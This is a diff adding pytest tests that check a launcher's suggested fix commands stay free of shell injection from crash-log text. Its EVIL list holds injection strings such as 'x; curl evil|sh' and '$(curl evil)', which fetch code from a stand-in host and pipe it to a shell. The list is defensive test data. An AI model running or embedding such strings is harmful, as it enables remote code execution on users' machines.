@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import shlex
+
 import pytest
 
 from launcher.cluster import Task
@@ -221,3 +223,51 @@ def test_a_keras_that_the_fix_refuses_is_to_be_replaced() -> None:
 def test_a_refused_keras_is_not_blamed_for_what_has_nothing_to_do_with_it() -> None:
     traceback = 'Traceback (most recent call last):\n  File "fit.py", line 9, in f\n    f()\nMemoryError: too large\n'
     assert remedy("gpu-a", REFUSED + traceback) == remedy("gpu-a", traceback) != ""
+
+
+# ---- what a program says is not what a person should type
+EVIL = ["x; curl evil|sh", "$(curl evil)", "`curl evil`", "x' ; curl evil '", "x && curl evil", "x\tcurl"]
+REPEATING = [
+    "ModuleNotFoundError: No module named '{}'",
+    "PermissionError: [Errno 13] Permission denied: '{}'",
+    "PermissionError: [Errno 13] Permission denied: '/data/{}'",
+    NO_FILE + "'/out/{}/a'",
+    NO_FILE + "'/in/{}'",
+    "NotFoundError: {{{{function_node a}}}} /in/{}; No such file or directory [Op:ReadFile]",
+    "cannot run {}: Permission denied (it is not executable)",
+    "cannot run {}: Exec format error (its first line has no #!)",
+    "cannot run {}/python: No such file or directory",
+    "cannot enter the working directory {}: No such file or directory",
+    "tf-launch: --keras 2 needs tf_keras {} for TensorFlow",
+    "tf-launch: --keras 2 needs tf_keras 2.16 {} for TensorFlow",
+]
+FORGED = (
+    "tf-launch: Keras 3.2.1 cannot be mended for MultiWorkerMirroredStrategy (too old): use Keras 3.3 {}: "
+    "pip install {}'keras>=3.3,<3.16'{}\n"
+)
+
+
+KERAS_CRASH = f'Traceback (most recent call last):\n  File "fit.py", line 9, in f\n    model.fit(x)\n{SUFFERS}\n'
+
+
+def typed(remedy: str) -> set[str]:
+    """The words of a remedy as a shell would take them."""
+    prose = remedy.replace("`", "").replace("#!", "").replace("command's", "")
+    return set(shlex.shlex(prose, posix=True, punctuation_chars=True)) if remedy else set()
+
+
+@pytest.mark.parametrize("evil", EVIL)
+@pytest.mark.parametrize("said", REPEATING)
+@pytest.mark.parametrize("code", ["open(path)", 'open(path, "w")'])
+def test_what_a_program_says_adds_no_word_to_a_command(code: str, said: str, evil: str) -> None:
+    for found in (crashed("gpu-a", code, said.format(evil)), not_started("gpu-a", said.format(evil))):
+        assert typed(found).isdisjoint({"curl", "evil", "|", "$", "&&"})
+
+
+@pytest.mark.parametrize("evil", EVIL)
+def test_another_keras_is_installed_by_a_command_of_our_own(evil: str) -> None:
+    places = [(evil, "", ""), ("", f"{evil} ", ""), ("", "", f" {evil}"), ("", "", f"; {evil}")]
+    logs = [FORGED.format(*words) + KERAS_CRASH for words in places]
+
+    assert "'keras>=3.3,<3.16'" in remedy("gpu-a", FORGED.format("to 3.15", "", "") + KERAS_CRASH)
+    assert not any("curl" in remedy("gpu-a", log) for log in logs)
